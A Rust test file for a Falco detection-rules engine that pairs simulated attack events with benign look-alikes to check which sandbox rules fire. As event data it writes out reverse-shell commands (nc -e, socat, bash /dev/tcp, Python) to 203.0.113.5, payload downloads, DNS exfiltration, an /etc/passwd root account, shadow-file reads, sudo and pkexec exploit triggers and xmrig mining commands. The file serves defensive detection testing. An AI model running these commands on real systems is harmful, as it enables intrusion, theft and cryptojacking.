//! Falco's sandbox ruleset on top of the stable and incubating ones, the three loaded
//! unchanged from the shared folder in Falco's order: one realistic attack per active
//! sandbox rule that fires it, and the benign twins that must stay quiet. The rules
//! the file ships `enabled: false` stay disabled and need no fixture. A rule that ships
//! as a template no event can fire is fired as a Falco user enables it: with a small
//! user rules file loaded after Falco's.
use serde_json::{Value, json};

use super::{
    falco::{container, exec, fired, open, statuses, syscall, with},
    falco_incubating::{
        ALL_CAPS, DOCKER_DEFAULT_CAPS, FALCO_RULES, INCUBATING_RULES, O_APPEND, O_CREAT, O_TRUNC,
        O_WRONLY, as_user, container_start, load_with_user_rules,
    },
};
use crate::rules::Engine;

/// Falco's sandbox ruleset, test data kept beside the repository (`../shared`), never
/// copied into it.
const SANDBOX_RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/falco-rules/falco-sandbox_rules.yaml"
);

/// The sandbox file reuses macros and lists of the other two, so it loads last, as
/// Falco loads them.
fn engine() -> Engine {
    Engine::load_paths(&[
        FALCO_RULES.into(),
        INCUBATING_RULES.into(),
        SANDBOX_RULES.into(),
    ])
    .unwrap_or_else(|e| panic!("{e}"))
}

/// The adopter's tuning of "Launch Disallowed Container": its `allowed_containers`
/// macro ships as `container.id exists`, true of every container, so as shipped no
/// container start fires it. The file's own comment asks the user to override the
/// macro with the images the environment runs.
const USER_RULES: &str = "
- list: allowed_images
  items: [nginx, docker.io/library/nginx, falcosecurity/falco]

- macro: allowed_containers
  condition: (container.image.repository in (allowed_images))
  override:
    condition: replace
";

/// Falco's three files and the adopter's tuning.
fn tuned_engine() -> Engine {
    load_with_user_rules(&[FALCO_RULES, INCUBATING_RULES, SANDBOX_RULES], USER_RULES)
}

/// The rule names of the sandbox file, read from the file itself so that the coverage
/// check follows the data rather than a copy of it.
fn sandbox_rule_names() -> Vec<String> {
    let text = std::fs::read_to_string(SANDBOX_RULES).unwrap();
    text.lines()
        .filter_map(|l| l.strip_prefix("- rule: "))
        .map(|n| n.trim().to_string())
        .collect()
}

const O_RDWR: u64 = 0o2;
const AT_FDCWD: i64 = -100;
const RENAME_NOREPLACE: u64 = 1;

// The file syscalls' path arguments: an absolute one is passed as it is; a relative
// one comes with its `resolved_*` form, as the sensor resolves it in the kernel.

/// A write-open that creates or truncates `path` (a shell's `>` or a download).
fn create(name: &str, path: &str) -> Value {
    open(name, path, path, O_WRONLY | O_CREAT | O_TRUNC)
}

/// `name`'s process running with `args`, in working directory `cwd`.
fn running(event: Value, args: &[&str], cwd: &str) -> Value {
    with(event, json!({"process": {"args": args, "cwd": cwd}}))
}

/// `mv SRC DST` as coreutils does it: renameat2 with RENAME_NOREPLACE.
fn mv(src: &str, dst: &str) -> Value {
    running(
        syscall(
            "mv",
            "renameat2",
            json!({"olddirfd": AT_FDCWD, "oldpath": src, "dirfd": AT_FDCWD, "newpath": dst,
                   "flags": RENAME_NOREPLACE}),
        ),
        &[src, dst],
        "/root",
    )
}

/// `rm PATH` as coreutils does it: unlinkat from the working directory.
fn rm(path: &str) -> Value {
    running(
        syscall(
            "rm",
            "unlinkat",
            json!({"dirfd": AT_FDCWD, "name": path, "flags": 0}),
        ),
        &["-f", path],
        "/root",
    )
}

/// An exec whose parent chain is `ancestors` (names; the parent first).
fn spawned_by(event: Value, ancestors: &[&str]) -> Value {
    let chain: Vec<Value> = ancestors
        .iter()
        .enumerate()
        .map(|(i, name)| {
            json!({"pid": 99 - i as u64, "name": name, "exe": name,
                   "exepath": format!("/usr/sbin/{name}"), "cmdline": name})
        })
        .collect();
    with(event, json!({"ancestors": chain}))
}

/// An exec from alice's login session (loginuid 1000); the setuid
/// binaries among them run with euid 0, so only the login uid tells.
fn from_login(event: Value) -> Value {
    with(
        event,
        json!({"loginuid": 1000, "process": {"loginuid": 1000}}),
    )
}

/// An exec typed at a terminal: the shell's foreground job leads its process group.
fn interactive(event: Value) -> Value {
    with(event, json!({"process": {"tty": 34816, "vpgid": 100}}))
}

/// A container whose first process starts with the given host mounts.
fn started_with_mounts(mounts: Value) -> Value {
    with(
        container_start(DOCKER_DEFAULT_CAPS, false),
        json!({"container": {"mounts": mounts}}),
    )
}

fn bind(source: &str, destination: &str, rw: bool) -> Value {
    json!({"source": source, "destination": destination, "mode": "", "rw": rw,
           "propagation": "rprivate", "type": "bind"})
}

/// The tools image an attacker runs (`docker run xmrig/xmrig`): no image the
/// adopter allows.
fn miner_container_start() -> Value {
    with(
        container_start(DOCKER_DEFAULT_CAPS, false),
        json!({"container": {"image": "xmrig/xmrig:latest", "image_repository": "xmrig/xmrig",
               "image_tag": "latest", "name": "kind_hopper"},
               "process": {"name": "xmrig", "exe": "/xmrig/xmrig", "exepath": "/xmrig/xmrig",
                   "args": ["-o", "pool.hashvault.pro:443", "--tls"]},
               "comm": "xmrig", "exe": "/xmrig/xmrig",
               "args": ["xmrig", "-o", "pool.hashvault.pro:443", "--tls"]}),
    )
}

/// (expected rules that fire, event): at least one per active sandbox rule. Every rule
/// the event fires is listed, the stable and incubating ones included.
pub(super) fn fixtures() -> Vec<(Vec<&'static str>, Value)> {
    vec![
        (
            // A malicious apt source, added from a root shell (`echo deb ... > ...`):
            // the next upgrade installs the attacker's packages.
            vec!["Update Package Repository", "Write below etc"],
            create("bash", "/etc/apt/sources.list.d/updates.list"),
        ),
        (
            // A rogue yum repository moved into place.
            vec!["Update Package Repository"],
            mv("/tmp/epel.repo", "/etc/yum.repos.d/epel.repo"),
        ),
        (
            // A script swapping in its own sources.list the atomic way, from within
            // /etc/apt: the paths are relative, the rule sees them resolved.
            vec!["Update Package Repository"],
            running(
                syscall(
                    "python3",
                    "rename",
                    json!({"oldpath": "sources.list.new", "newpath": "sources.list",
                           "resolved_oldpath": "/etc/apt/sources.list.new",
                           "resolved_newpath": "/etc/apt/sources.list"}),
                ),
                &["/tmp/.u.py"],
                "/etc/apt",
            ),
        ),
        (
            // A trojaned ps copied over the real one.
            vec!["Write below binary dir"],
            running(
                create("cp", "/usr/bin/ps"),
                &["/tmp/.x/ps", "/usr/bin/ps"],
                "/tmp",
            ),
        ),
        (
            // A userland rootkit (libprocesshider) dropped below /usr/local/lib.
            vec!["Write below monitored dir"],
            create("python3", "/usr/local/lib/libprocesshider.so"),
        ),
        (
            // An attacker's key appended to a user's authorized_keys.
            vec![
                "Adding ssh keys to authorized_keys",
                "Write below monitored dir",
            ],
            open(
                "bash",
                "/home/alice/.ssh/authorized_keys",
                "/home/alice/.ssh/authorized_keys",
                O_WRONLY | O_APPEND,
            ),
        ),
        (
            // ... and preloaded into every process.
            vec!["Write below etc"],
            create("bash", "/etc/ld.so.preload"),
        ),
        (
            // A root account appended to /etc/passwd from a shell in /etc
            // (`echo 'toor:x:0:0::/root:/bin/bash' >> passwd`).
            vec!["Write below etc"],
            with(
                open("bash", "passwd", "/etc/passwd", O_WRONLY | O_APPEND),
                json!({"process": {"cwd": "/etc"}}),
            ),
        ),
        (
            // Persistence as a systemd user unit of root's.
            vec!["Write below root"],
            create("python3", "/root/.config/systemd/user/dbus-helper.service"),
        ),
        (
            // A payload downloaded to a hidden file at the filesystem root.
            vec!["Write below root"],
            running(
                create("wget", "/.kworker"),
                &["-q", "-O", "/.kworker", "http://203.0.113.5/k"],
                "/",
            ),
        ),
        (
            // The rpm database rewritten to hide an installed package.
            vec!["Write below rpm database"],
            open(
                "python3",
                "/var/lib/rpm/rpmdb.sqlite",
                "/var/lib/rpm/rpmdb.sqlite",
                O_RDWR,
            ),
        ),
        (
            // The trojaned ps moved over the real one.
            vec!["Modify binary dirs"],
            mv("/tmp/.x/ps", "/usr/bin/ps"),
        ),
        (
            // The audit tools removed to blind the defenders.
            vec!["Modify binary dirs"],
            rm("/usr/sbin/auditctl"),
        ),
        (
            // `rm netstat` from within /usr/bin: the rule sees the name resolved.
            vec!["Modify binary dirs"],
            with(
                rm("netstat"),
                json!({"resolved_name": "/usr/bin/netstat", "process": {"cwd": "/usr/bin"}}),
            ),
        ),
        (
            // Python's os.remove of ss: the unlink syscall.
            vec!["Modify binary dirs"],
            syscall("python3", "unlink", json!({"path": "/usr/bin/ss"})),
        ),
        (
            // The original top moved aside for a wrapper.
            vec!["Modify binary dirs"],
            syscall(
                "python3",
                "renameat",
                json!({"olddirfd": AT_FDCWD, "oldpath": "/usr/bin/top", "dirfd": AT_FDCWD,
                       "newpath": "/usr/bin/.top.orig"}),
            ),
        ),
        (
            // The stash directory removed when the attacker leaves.
            vec!["Modify binary dirs"],
            syscall("rmdir", "rmdir", json!({"path": "/usr/sbin/.cache"})),
        ),
        (
            // A hidden directory to stash tools among the binaries.
            vec!["Mkdir binary dirs"],
            running(
                syscall(
                    "mkdir",
                    "mkdir",
                    json!({"path": "/usr/bin/.ssh-agent", "mode": 0o700}),
                ),
                &["/usr/bin/.ssh-agent"],
                "/root",
            ),
        ),
        (
            // `mkdir .cache` from within /usr/sbin: mkdirat, the path resolved.
            vec!["Mkdir binary dirs"],
            running(
                syscall(
                    "mkdir",
                    "mkdirat",
                    json!({"dirfd": AT_FDCWD, "path": ".cache", "resolved_path": "/usr/sbin/.cache",
                           "mode": 0o755}),
                ),
                &[".cache"],
                "/usr/sbin",
            ),
        ),
        (
            // `docker run -v /var/run/docker.sock:/var/run/docker.sock`: the container
            // drives the host's Docker.
            vec!["Launch Sensitive Mount Container"],
            started_with_mounts(json!([bind(
                "/var/run/docker.sock",
                "/var/run/docker.sock",
                true
            )])),
        ),
        (
            // `docker run -v /:/host`: the host's whole filesystem.
            vec!["Launch Sensitive Mount Container"],
            started_with_mounts(json!([bind("/", "/host", true)])),
        ),
        (
            // A privileged container: the sensitive-mount rule's `not
            // container.mount.dest[...] in ("<NA>","N/A")` is true when no mount
            // matches (the field has no value, `in` is false), so as in Falco every
            // container start outside the trusted images fires it.
            vec![
                "Launch Excessively Capable Container",
                "Launch Privileged Container",
                "Launch Sensitive Mount Container",
            ],
            container_start(ALL_CAPS, true),
        ),
        (
            // A renamed xmrig pointed at a Stratum pool.
            vec!["Detect crypto miners using the Stratum protocol"],
            exec(
                "kworkerd",
                "/tmp/.k/kworkerd",
                &[
                    "-o",
                    "stratum+tcp://pool.supportxmr.com:3333",
                    "-u",
                    "44AFFq5kSiGBoZ",
                ],
            ),
        ),
        (
            // xmrig itself, dropped into a compromised container, on a TLS Stratum pool.
            vec![
                "Detect crypto miners using the Stratum protocol",
                "Known Cryptominer Process Executed",
            ],
            container(exec(
                "xmrig",
                "/tmp/xmrig",
                &["-o", "stratum+ssl://xmr-eu1.nanopool.org:14433"],
            )),
        ),
        (
            // xmrig over TLS on 443: no Stratum URI, but a miner by name.
            vec!["Known Cryptominer Process Executed"],
            exec(
                "xmrig",
                "/opt/xmrig/xmrig",
                &[
                    "--donate-level",
                    "1",
                    "-o",
                    "pool.hashvault.pro:443",
                    "--tls",
                ],
            ),
        ),
        (
            // A compromised pod listing the cluster's secrets with a mounted token.
            vec!["Kubernetes Client Tool Launched in Container"],
            container(exec(
                "kubectl",
                "/usr/local/bin/kubectl",
                &["get", "secrets", "-A", "-o", "yaml"],
            )),
        ),
        (
            // CVE-2021-3156 (Baron Samedit): `sudoedit -s '\' AAAA...` by a login user.
            vec!["Sudo Potential Privilege Escalation"],
            from_login(exec(
                "sudoedit",
                "/usr/bin/sudoedit",
                &["-s", "\\", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"],
            )),
        ),
        (
            // A kernel exploit stalling the kernel on its own page faults (a race
            // window widened with userfaultfd), run by an unprivileged user.
            vec!["Unprivileged Delegation of Page Faults Handling to a Userspace Process"],
            as_user(
                syscall(
                    "exploit",
                    "userfaultfd",
                    json!({"flags": 0o2004000, "result": 3}),
                ),
                "alice",
                1000,
            ),
        ),
        (
            // The same call refused (vm.unprivileged_userfaultfd=0): Falco's condition
            // `evt.rawres >= 0 or evt.res != -1` holds for failures too (evt.res is
            // the errno name), so the attempt fires as well.
            vec!["Unprivileged Delegation of Page Faults Handling to a Userspace Process"],
            as_user(
                syscall(
                    "exploit",
                    "userfaultfd",
                    json!({"flags": 0o2004000, "result": -1, "error": "EPERM"}),
                ),
                "alice",
                1000,
            ),
        ),
        (
            // The same overflow with the argument ending in the backslash.
            vec!["Sudo Potential Privilege Escalation"],
            from_login(exec(
                "sudoedit",
                "/usr/bin/sudoedit",
                &["-s", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\"],
            )),
        ),
        (
            // CVE-2021-4034 (PwnKit): pkexec run with an empty argv.
            vec!["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"],
            from_login(with(
                exec("pkexec", "/usr/bin/pkexec", &[]),
                json!({"args": [], "process": {"args": []}}),
            )),
        ),
        (
            // An injected command decoding its payload inside a container
            // (`echo ... | base64 -d | sh`).
            vec!["Decoding Payload in Container"],
            container(spawned_by(
                exec("base64", "/usr/bin/base64", &["-d"]),
                &["sh", "node"],
            )),
        ),
        (
            // `whoami` typed into a `kubectl exec` shell.
            vec!["Basic Interactive Reconnaissance"],
            container(interactive(exec("whoami", "/usr/bin/whoami", &[]))),
        ),
        (
            // `id` typed into a reverse shell upgraded to a terminal on the host.
            vec!["Basic Interactive Reconnaissance"],
            interactive(exec("id", "/usr/bin/id", &[])),
        ),
        (
            // A reverse shell with netcat on the host (`nc -e`).
            vec![
                "Launch Suspicious Network Tool on Host",
                "Netcat/Socat Remote Code Execution on Host",
            ],
            exec(
                "nc",
                "/usr/bin/nc",
                &["-e", "/bin/sh", "203.0.113.5", "4444"],
            ),
        ),
        (
            // The socat reverse shell with a terminal.
            vec![
                "Launch Suspicious Network Tool on Host",
                "Netcat/Socat Remote Code Execution on Host",
            ],
            exec(
                "socat",
                "/usr/bin/socat",
                &["TCP:203.0.113.5:4444", "EXEC:/bin/bash,pty,stderr,setsid"],
            ),
        ),
        (
            // nmap's ncat serving a shell to the attacker.
            vec![
                "Launch Suspicious Network Tool on Host",
                "Netcat/Socat Remote Code Execution on Host",
            ],
            exec(
                "ncat",
                "/usr/bin/ncat",
                &["203.0.113.5", "4444", "--sh-exec", "/bin/bash -i"],
            ),
        ),
        (
            // A malicious package's postinstall exfiltrating over DNS.
            vec![
                "Launch Suspicious Network Tool in Container",
                "Network Tool Executed During NPM Package Install",
            ],
            container(spawned_by(
                exec(
                    "dig",
                    "/usr/bin/dig",
                    &["+short", "bnBtX3Rva2VuX2V4ZmlsCg.oast.example"],
                ),
                &["sh", "node", "npm"],
            )),
        ),
        (
            // A webshell running commands through PHP (php-fpm is none of the stable
            // rule's protected shell spawners: this rule complements it).
            vec!["Web Server Spawned Shell"],
            spawned_by(
                exec("sh", "/bin/sh", &["-c", "cd /var/www/html; ls -la"]),
                &["php-fpm", "php-fpm"],
            ),
        ),
        (
            // ... downloading the next stage.
            vec!["Web Server Spawned Suspicious Child Process"],
            spawned_by(
                exec(
                    "curl",
                    "/usr/bin/curl",
                    &["-s", "http://203.0.113.5/x.sh", "-o", "/tmp/x.sh"],
                ),
                &["php-fpm", "php-fpm"],
            ),
        ),
        (
            // A bash reverse shell from an exploited CGI script.
            vec![
                "Reverse Shell from Web Server",
                "Run shell untrusted",
                "Web Server Spawned Shell",
            ],
            spawned_by(
                exec(
                    "bash",
                    "/bin/bash",
                    &["-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
                ),
                &["apache2"],
            ),
        ),
        (
            // The named-pipe netcat shell: its mkfifo, run by the webshell's shell.
            vec!["Reverse Shell from Web Server"],
            spawned_by(
                exec("mkfifo", "/usr/bin/mkfifo", &["/tmp/f"]),
                &["sh", "php-fpm"],
            ),
        ),
        (
            // A Python reverse shell from a web application.
            vec![
                "Reverse Shell from Web Server",
                "Web Server Spawned Suspicious Child Process",
            ],
            spawned_by(
                exec(
                    "python3",
                    "/usr/bin/python3",
                    &[
                        "-c",
                        "'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444))'",
                    ],
                ),
                &["uwsgi"],
            ),
        ),
        (
            // A privileged container reading the host's disk (`dd if=/dev/sda1`).
            vec!["Privileged Container Device Access"],
            container(running(
                open("dd", "/dev/sda1", "/dev/sda1", 0),
                &["if=/dev/sda1", "of=/tmp/disk.img", "bs=1M"],
                "/",
            )),
        ),
        (
            // ... or writing the host's kernel memory.
            vec!["Privileged Container Device Access"],
            container(open("python3", "/dev/mem", "/dev/mem", O_RDWR)),
        ),
        (
            // A container with the host's root mounted reading its shadow file.
            vec!["Container Access to Host Sensitive Paths"],
            container(open("cat", "/host/etc/shadow", "/host/etc/shadow", 0)),
        ),
        (
            // ... and planting a cron job on the host through it.
            vec!["Container Access to Host Sensitive Paths"],
            container(create("sh", "/rootfs/etc/cron.d/0hourly-update")),
        ),
    ]
}

/// (expected rules that fire, event) on the tuned engine: the template rules.
fn tuned_fixtures() -> Vec<(Vec<&'static str>, Value)> {
    vec![(
        // A cryptominer's image started on the cluster: no image the adopter allows
        // (and, as every container start, a "sensitive mount" one; see above).
        vec![
            "Known Cryptominer Process Executed",
            "Launch Disallowed Container",
            "Launch Sensitive Mount Container",
        ],
        miner_container_start(),
    )]
}

#[test]
fn every_active_sandbox_rule_fires_on_its_fixture() {
    let engine = engine();
    let tuned = tuned_engine();
    let mut covered: Vec<String> = Vec::new();
    // Every mismatch at once: one fixture's surprise often explains another's.
    let mut wrong = Vec::new();
    for (engine, fixtures) in [(&engine, fixtures()), (&tuned, tuned_fixtures())] {
        for (expected, event) in fixtures {
            let mut expected: Vec<String> = expected.iter().map(|s| s.to_string()).collect();
            expected.sort();
            let got = fired(engine, &event);
            if got != expected {
                wrong.push(format!("expected {expected:?}, got {got:?}: {event}"));
            }
            covered.extend(expected);
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
    // As shipped, the template rule stays quiet on its fixtures.
    for (_, event) in tuned_fixtures() {
        let got = fired(&engine, &event);
        assert!(
            !got.iter().any(|r| r == "Launch Disallowed Container"),
            "{event}"
        );
    }
    let sandbox = sandbox_rule_names();
    assert_eq!(sandbox.len(), 37, "{sandbox:#?}");
    let (active, disabled, skipped) = statuses(&engine);
    assert_eq!(skipped, Vec::<String>::new());
    let active: Vec<&String> = active.iter().filter(|n| sandbox.contains(n)).collect();
    let disabled: Vec<&String> = disabled.iter().filter(|n| sandbox.contains(n)).collect();
    assert_eq!((active.len(), disabled.len()), (25, 12), "{disabled:#?}");
    let uncovered: Vec<&&String> = active.iter().filter(|n| !covered.contains(n)).collect();
    assert_eq!(uncovered, Vec::<&&String>::new(), "no fixture fires these");
}

#[test]
fn sandbox_near_misses_stay_quiet() {
    let engine = engine();
    let tuned = tuned_engine();
    // (the rule the benign twin resembles an attack of, event).
    let quiet = [
        (
            // apt adding a source list, and a package's maintainer script below dpkg.
            "Update Package Repository",
            create("apt-get", "/etc/apt/sources.list.d/docker.list"),
        ),
        (
            // Chrome's maintainer script restoring its source list, run by dpkg.
            "Update Package Repository",
            with(
                create(
                    "google-chrome-s",
                    "/etc/apt/sources.list.d/google-chrome.list",
                ),
                json!({"ancestors": [{"pid": 199, "name": "dpkg"}, {"pid": 198, "name": "apt-get"}]}),
            ),
        ),
        (
            // A rename elsewhere below /etc.
            "Update Package Repository",
            mv(
                "/etc/nginx/conf.d/site.conf.new",
                "/etc/nginx/conf.d/site.conf",
            ),
        ),
        (
            // The package manager upgrading a binary.
            "Write below binary dir",
            create("dpkg", "/usr/bin/curl.dpkg-new"),
        ),
        (
            // pip installing a console script, and the initramfs being rebuilt.
            "Write below monitored dir",
            create("pip3", "/usr/local/bin/flask"),
        ),
        (
            "Write below monitored dir",
            with(
                create("mkinitramfs", "/boot/initrd.img-6.1.0-13-amd64.new"),
                json!({"ancestors": [{"pid": 199, "name": "mkinitramfs"},
                                     {"pid": 198, "name": "update-initramf"}]}),
            ),
        ),
        (
            // useradd adding a user, and a package's maintainer script writing its
            // configuration under dpkg.
            "Write below etc",
            create("useradd", "/etc/passwd+"),
        ),
        (
            "Write below etc",
            with(
                create("sed", "/etc/default/grub"),
                json!({"ancestors": [{"pid": 199, "name": "dpkg"}]}),
            ),
        ),
        (
            // A shell saving its history; kubectl saving its config.
            "Write below root",
            open(
                "bash",
                "/root/.bash_history",
                "/root/.bash_history",
                O_WRONLY | O_APPEND | O_CREAT,
            ),
        ),
        ("Write below root", create("kubectl", "/root/.kube/config")),
        (
            // rpm and dnf writing their own database.
            "Write below rpm database",
            open(
                "rpm",
                "/var/lib/rpm/rpmdb.sqlite",
                "/var/lib/rpm/rpmdb.sqlite",
                O_RDWR,
            ),
        ),
        (
            "Write below rpm database",
            create("dnf", "/var/lib/rpm/.rpm.lock"),
        ),
        (
            // dpkg moving an upgraded binary into place.
            "Modify binary dirs",
            syscall(
                "dpkg",
                "rename",
                json!({"oldpath": "/usr/bin/curl.dpkg-new", "newpath": "/usr/bin/curl"}),
            ),
        ),
        (
            // Cleaning a build tree that stages a package's usr/bin: relative names
            // resolve outside the binary directories, from the cwd ...
            "Modify binary dirs",
            with(
                rm("pkg/usr/bin/tool"),
                json!({"resolved_name": "/home/alice/build/pkg/usr/bin/tool",
                       "process": {"cwd": "/home/alice/build"}}),
            ),
        ),
        (
            // ... or from a directory fd (`rm -rf` walks the tree with unlinkat).
            "Modify binary dirs",
            with(
                rm("tool"),
                json!({"dirfd": 5, "resolved_name": "/home/alice/build/pkg/usr/bin/tool",
                       "process": {"cwd": "/home/alice/build"}}),
            ),
        ),
        (
            // Removing a temporary file.
            "Modify binary dirs",
            rm("/tmp/build.log"),
        ),
        (
            // An admin's directory below /usr/local/bin, and a package's below /usr/bin.
            "Mkdir binary dirs",
            syscall(
                "mkdir",
                "mkdir",
                json!({"path": "/usr/local/bin/tools", "mode": 0o755}),
            ),
        ),
        (
            "Mkdir binary dirs",
            syscall(
                "dpkg",
                "mkdirat",
                json!({"dirfd": AT_FDCWD, "path": "/usr/sbin/x", "mode": 0o755}),
            ),
        ),
        (
            // Falco's own container, which mounts /proc and the Docker socket by design.
            "Launch Sensitive Mount Container",
            with(
                started_with_mounts(json!([
                    bind("/proc", "/host/proc", false),
                    bind("/var/run/docker.sock", "/host/var/run/docker.sock", true)
                ])),
                json!({"container": {"image": "falcosecurity/falco:0.39.0",
                       "image_repository": "falcosecurity/falco", "image_tag": "0.39.0"}}),
            ),
        ),
        (
            // Talking about Stratum is not mining.
            "Detect crypto miners using the Stratum protocol",
            exec(
                "curl",
                "/usr/bin/curl",
                &["-s", "https://en.bitcoin.it/wiki/Stratum_mining_protocol"],
            ),
        ),
        (
            // kubectl on the host, and in the AKS tunnel image that runs it.
            "Kubernetes Client Tool Launched in Container",
            exec("kubectl", "/usr/local/bin/kubectl", &["get", "pods"]),
        ),
        (
            "Kubernetes Client Tool Launched in Container",
            container(with(
                exec("kubectl", "/usr/local/bin/kubectl", &["get", "pods"]),
                json!({"container": {"image": "mcr.microsoft.com/aks/hcp/hcp-tunnel-front:v1",
                       "image_repository": "mcr.microsoft.com/aks/hcp/hcp-tunnel-front"}}),
            )),
        ),
        (
            // `sudo -i`, a command run through sudo's shell, and `sudoedit` of a file.
            // (The rule's `proc.args contains "\ "` looks for a backslash: libsinsp
            // reads the escape `\ ` as one.)
            "Sudo Potential Privilege Escalation",
            from_login(exec("sudo", "/usr/bin/sudo", &["-i"])),
        ),
        (
            "Sudo Potential Privilege Escalation",
            from_login(exec(
                "sudo",
                "/usr/bin/sudo",
                &["-s", "systemctl", "restart", "nginx"],
            )),
        ),
        (
            "Sudo Potential Privilege Escalation",
            from_login(exec("sudoedit", "/usr/bin/sudoedit", &["/etc/hosts"])),
        ),
        (
            // CRIU's lazy migration, which runs as root.
            "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
            syscall(
                "criu",
                "userfaultfd",
                json!({"flags": 0o2004000, "result": 5}),
            ),
        ),
        (
            // pkexec with a command.
            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
            from_login(exec(
                "pkexec",
                "/usr/bin/pkexec",
                &["/usr/bin/systemctl", "restart", "nginx"],
            )),
        ),
        (
            // Encoding (not decoding) inside a container.
            "Decoding Payload in Container",
            container(exec("base64", "/usr/bin/base64", &["/app/report.pdf"])),
        ),
        (
            // whoami run by a script (not its process group's leader) at a terminal,
            // and by cron without one.
            "Basic Interactive Reconnaissance",
            with(
                exec("whoami", "/usr/bin/whoami", &[]),
                json!({"process": {"tty": 34816, "vpgid": 99}}),
            ),
        ),
        (
            "Basic Interactive Reconnaissance",
            with(
                exec("whoami", "/usr/bin/whoami", &[]),
                json!({"process": {"vpgid": 100}, "ancestors": [{"pid": 99, "name": "cron"}]}),
            ),
        ),
        (
            // A port check, and the same reverse shell inside a container (the
            // stable rule's ground).
            "Netcat/Socat Remote Code Execution on Host",
            exec("nc", "/usr/bin/nc", &["-zv", "10.0.0.5", "5432"]),
        ),
        (
            "Netcat/Socat Remote Code Execution on Host",
            container(exec(
                "nc",
                "/usr/bin/nc",
                &["-e", "/bin/sh", "203.0.113.5", "4444"],
            )),
        ),
        (
            // npm building a native module, and dig from a shell.
            "Network Tool Executed During NPM Package Install",
            container(spawned_by(
                exec("make", "/usr/bin/make", &["-C", "build"]),
                &["sh", "node-gyp", "npm"],
            )),
        ),
        (
            "Network Tool Executed During NPM Package Install",
            container(exec("dig", "/usr/bin/dig", &["+short", "db.prod.svc"])),
        ),
        (
            // A GPU benchmark.
            "Known Cryptominer Process Executed",
            exec("hashcat", "/usr/bin/hashcat", &["-b"]),
        ),
        (
            // PHP calling ImageMagick through a shell, and a shell health check.
            "Web Server Spawned Shell",
            spawned_by(
                exec(
                    "sh",
                    "/bin/sh",
                    &[
                        "-c",
                        "/usr/bin/convert /tmp/in.png -resize 64x64 /tmp/out.png",
                    ],
                ),
                &["php-fpm"],
            ),
        ),
        (
            "Web Server Spawned Shell",
            spawned_by(
                exec("sh", "/bin/sh", &["-c", "/healthcheck.sh"]),
                &["nginx"],
            ),
        ),
        (
            // A status probe run by the web server.
            "Web Server Spawned Suspicious Child Process",
            spawned_by(
                exec(
                    "curl",
                    "/usr/bin/curl",
                    &["-s", "http://127.0.0.1/nginx_status"],
                ),
                &["nginx"],
            ),
        ),
        (
            // An admin's interactive bash from an ssh session.
            "Reverse Shell from Web Server",
            spawned_by(exec("bash", "/bin/bash", &["-i"]), &["sshd"]),
        ),
        (
            // Entropy and the null device in a container; the host's own disk tool.
            "Privileged Container Device Access",
            container(open("python3", "/dev/urandom", "/dev/urandom", 0)),
        ),
        (
            "Privileged Container Device Access",
            open("blkid", "/dev/sda1", "/dev/sda1", 0),
        ),
        (
            // The container's own shadow file, not the host's.
            "Container Access to Host Sensitive Paths",
            container(open("cat", "/etc/shadow", "/etc/shadow", 0)),
        ),
    ];
    // With the adopter's allow-list: its images start.
    let tuned_quiet = [(
        "Launch Disallowed Container",
        container_start(DOCKER_DEFAULT_CAPS, false),
    )];
    let sandbox = sandbox_rule_names();
    let loud: Vec<String> = quiet
        .iter()
        .map(|q| (&engine, q))
        .chain(tuned_quiet.iter().map(|q| (&tuned, q)))
        .filter_map(|(engine, (rule, ev))| {
            assert!(
                sandbox.iter().any(|n| n == rule) && engine.rule(rule).is_some(),
                "{rule}"
            );
            let got = fired(engine, ev);
            got.contains(&rule.to_string())
                .then(|| format!("{rule} ({got:?}): {ev}"))
        })
        .collect();
    assert_eq!(loud, Vec::<String>::new());
}
